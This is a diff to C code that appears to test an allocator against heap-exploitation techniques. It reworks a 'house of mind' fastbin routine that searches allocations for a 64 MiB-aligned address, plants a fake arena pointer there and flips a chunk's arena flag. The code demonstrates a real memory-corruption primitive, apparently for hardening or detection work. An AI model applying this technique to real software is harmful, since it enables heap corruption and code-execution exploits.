@@ -62,24 +62,28 @@ static void house_of_tangerine(void) {
 }
 
 /* A chunk that says it is of another arena: which one, it says at the last multiple of 64 MiB
- * below it, and that lies in blocks of the program's if it only takes enough. */
+ * below it, and that lies in blocks of the program's if it only takes enough. Where blocks lie
+ * alone on pages of their own, none ever does. */
 static void house_of_mind_fastbin(void) {
     enum { SIZE = 126 * 1024, HEAP_MAX_BYTES = 64 << 20, SYSTEM_MEM = 273, FASTBINS = 2 };
+    enum { ENOUGH = 2 * HEAP_MAX_BYTES / SIZE };
     _Alignas(16) static word arena[512];
     arena[SYSTEM_MEM] = HEAP_MAX_BYTES;
     struct filler filler = filler_take(88);
-    char *block;
-    word multiple;
-    do {
-        block = take(SIZE);
-        multiple = ((word)block + SIZE) & ~((word)HEAP_MAX_BYTES - 1);
-    } while (block != NULL && (multiple < (word)block || multiple + 16 > (word)block + SIZE));
+    word multiple = 0;
+    for (int i = 0; i < ENOUGH && multiple == 0; i++) {
+        char *block = take(SIZE);
+        word candidate = ((word)block + SIZE) & ~((word)HEAP_MAX_BYTES - 1);
+        if (candidate >= (word)block && candidate + 16 <= (word)block + SIZE)
+            multiple = candidate;
+    }
     char *before = take(88);
     void *victim = take(88);
     take(24);
-    if (block == NULL || before == NULL || victim == NULL)
+    if (before == NULL || victim == NULL)
         return;
-    *(word *)multiple = (word)arena;
+    if (multiple != 0)
+        *(word *)multiple = (word)arena;
     *behind(before) ^= OF_OTHER_ARENA;
     for (size_t i = 0; i < 10; i++)
         watch(&arena[FASTBINS + i]);
